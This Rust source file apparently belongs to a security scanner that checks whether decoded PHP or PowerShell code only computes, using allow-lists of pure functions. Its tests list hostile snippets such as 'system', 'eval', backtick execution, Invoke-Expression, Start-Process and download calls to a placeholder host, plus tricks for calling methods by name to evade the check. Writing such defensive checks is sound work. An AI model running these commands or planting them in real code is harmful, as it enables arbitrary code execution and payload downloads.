//! Decoded code that only computes: it declares functions and classes, calls nothing but those and functions that take values and
//! yield values, and so cannot act however it is called. Who sells modules encodes such code so that nobody copies it; nothing is
//! hidden in it that a reader would mind, once it has been read to its end.

use std::collections::HashSet;

use super::value::HOLE;
use crate::parse::script::{Language, Node, Tree, read};

/// Longest code that is looked at.
const LONGEST: usize = 64 << 10;
/// Functions of PHP that yield a value and do nothing else. What decodes, and what takes the name of a function, is none.
const OF_PHP: &str = "explode implode join count sizeof strlen mb_strlen time microtime substr mb_substr strpos stripos strrpos str_replace \
    sprintf number_format trim ltrim rtrim md5 sha1 crc32 hash hash_hmac hash_equals in_array array_key_exists array_keys array_values \
    array_merge array_slice array_sum array_unique array_reverse is_array is_string is_int is_numeric is_null is_bool isset empty intval \
    floatval strval boolval json_encode json_decode date gmdate strtotime mktime checkdate max min abs round floor ceil ucfirst \
    ucwords strtolower strtoupper mb_strtolower mb_strtoupper htmlspecialchars esc_html esc_attr __ _e range sort rsort ksort str_pad \
    str_repeat str_contains str_starts_with str_ends_with preg_match preg_quote nl2br wordwrap version_compare echo print \
    (int) (float) (string) (bool) (array) openssl_verify sodium_crypto_sign_verify_detached array list define defined";
/// Cmdlets of PowerShell that take and yield objects, or read a table that they are told of.
const OF_POWERSHELL: &str = "import-csv convertfrom-csv convertto-csv convertfrom-json convertto-json convertto-html sort-object sort \
    group-object group select-object select where-object where foreach-object measure-object measure compare-object format-table \
    format-list get-date new-timespan write-output write-host write-verbose write-warning out-string out-null join-path split-path \
    test-path export-csv get-random select-string export-modulemember -join -split -f -match -notmatch -replace -like -notlike \
    -contains -notcontains -in -notin [string] [int] [datetime]";

/// Whether code, which was decoded in full, only computes.
pub(super) fn only_computes(language: Language, code: &str) -> bool {
    let pure = match language {
        Language::Php => OF_PHP,
        Language::PowerShell => OF_POWERSHELL,
        _ => return false,
    };
    if code.len() > LONGEST || code.contains(HOLE) {
        return false;
    }
    let tagged;
    let text = if language == Language::Php && !code.trim_start().starts_with("<?") {
        tagged = format!("<?php {code}");
        tagged.as_str()
    } else {
        code
    };
    if language == Language::PowerShell && names_a_method(text) {
        return false;
    }
    // What is executed by a mark that is no call.
    if language == Language::Php && text.contains('`') {
        return false;
    }
    let tree = read(language, text);
    tree.problems.is_empty() && declares(&tree) && calls_only(&tree, &pure.split_whitespace().collect())
}

/// Whether `ForEach-Object` is given a word in place of a block: the name of a method that it calls on each object.
fn names_a_method(text: &str) -> bool {
    const EACH: &str = "foreach-object";
    let lower = text.to_ascii_lowercase();
    lower
        .match_indices(EACH)
        .any(|(at, _)| !lower.get(at + EACH.len()..).unwrap_or_default().trim_start().starts_with('{'))
}

/// Whether the code declares a function or a class: what does neither was not worth encoding.
fn declares(tree: &Tree) -> bool {
    tree.nodes().any(|node| matches!(node, Node::Func(_) | Node::Class(..)))
}

fn calls_only(tree: &Tree, pure: &HashSet<&str>) -> bool {
    let own: HashSet<String> = tree
        .nodes()
        .filter_map(|node| match node {
            Node::Func(id) => tree.function(id).map(|func| func.name),
            Node::Class(name, ..) => Some(name),
            _ => None,
        })
        .map(|name| tree.str(name).to_ascii_lowercase())
        .filter(|name| !name.is_empty())
        .collect();
    let is_known = |name: &str, is_method: bool| {
        let name = name.to_ascii_lowercase();
        own.contains(&name) || !is_method && pure.contains(name.as_str())
    };
    tree.nodes().all(|node| match node {
        Node::Call(callee, _) => match tree.get(callee) {
            // Commands of PowerShell are words.
            Node::Name(name) | Node::Str(name) => is_known(tree.str(name), false),
            Node::Member(_, name) => is_known(tree.str(name), true),
            _ => false,
        },
        Node::New(callee, _) => {
            matches!(tree.get(callee), Node::Name(name) if own.contains(&tree.str(name).to_ascii_lowercase()))
        }
        Node::Import(..) | Node::Await(_) | Node::Enter(_) | Node::Opaque(_) => false,
        _ => true,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_check_of_a_key_only_computes() {
        let code = "class Key { public static function fits($k, $h) { $p = explode('-', $k); \
                    if (count($p) !== 2 || (int)$p[1] < time()) return false; \
                    return hash_equals(substr(hash('sha256', $h . 'salt'), 0, 8), $p[0]); } } \
                    function fits($k) { return Key::fits($k, 'x'); }";
        assert!(only_computes(Language::Php, code));
        for harm in [
            "system($k);",
            "$f = $k; $f('x');",
            "include $k;",
            "eval($k);",
            "`id`;",
            "file_put_contents('a.php', $k);",
            "array_map($k, array('x'));",
            "$c = new $k('x');",
            "($k)('x');",
            "$o->run($k);",
            "preg_replace('/x/e', $k, 'x');",
            "base64_decode($k);",
        ] {
            let with = code.replace("return Key::fits", &format!("{harm} return Key::fits"));
            assert!(!only_computes(Language::Php, &with), "{harm}");
        }
        assert!(!only_computes(Language::Php, "echo 1;"), "declares nothing");
        assert!(!only_computes(Language::Python, "def f(): pass"));
    }

    #[test]
    fn a_function_over_a_table_only_computes() {
        let code =
            "function Get-Totals { param([string]$Path)\nImport-Csv $Path | Group-Object Team | Sort-Object Count }\n";
        assert!(only_computes(Language::PowerShell, code));
        assert!(only_computes(Language::PowerShell, &format!("{code}@(1, 2) | ForEach-Object {{ $_ }}\n")));
        for harm in [
            "Invoke-Expression $Path",
            "& $Path",
            ". $Path",
            "$Path.Invoke()",
            "[scriptblock]::Create($Path)",
            "Start-Process $Path",
            "iwr http://h.invalid/x -OutFile y",
            "New-Object Net.WebClient",
            "curl.exe http://h.invalid",
            "Add-Type $Path",
            "$ExecutionContext.InvokeCommand | ForEach-Object InvokeScript $Path",
            "$ExecutionContext.InvokeCommand | ForEach-Object -MemberName InvokeScript -ArgumentList $Path",
        ] {
            assert!(!only_computes(Language::PowerShell, &format!("{code}{harm}\n")), "{harm}");
        }
    }
}
